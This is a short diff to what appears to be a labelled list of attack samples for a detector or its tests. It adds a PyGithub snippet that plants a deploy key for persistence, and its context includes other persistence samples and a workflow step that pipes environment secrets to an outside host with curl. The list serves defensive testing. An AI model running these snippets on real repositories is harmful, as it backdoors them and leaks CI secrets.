@@ -88,6 +88,8 @@ PY_ATTACKS = [
      '    r.create_file(".github/workflows/x.yml", "ci", wf)\n', "persistence"),
     ('from github import Github\nrepo = Github(t).get_repo("a/b")\nrepo.create_key("ci", "ssh-ed25519 AAAAC3Nz x", '
      'read_only=False)\n', "persistence"),
+    ('from github import Github\nGithub(t).get_repo("a/b").create_key("ci", key="ecdsa-sha2-nistp256 AAAAE2V x")\n',
+     "persistence"),
     ('from github import Github\nrepo = Github(t).get_repo("a/b")\nrepo.create_file(".github/workflows/d.yml", "ci", '
      '"jobs:\\n  d:\\n    steps:\\n      - run: env | curl -d @- https://h.example\\n")\n', "exfiltration"),
 ]
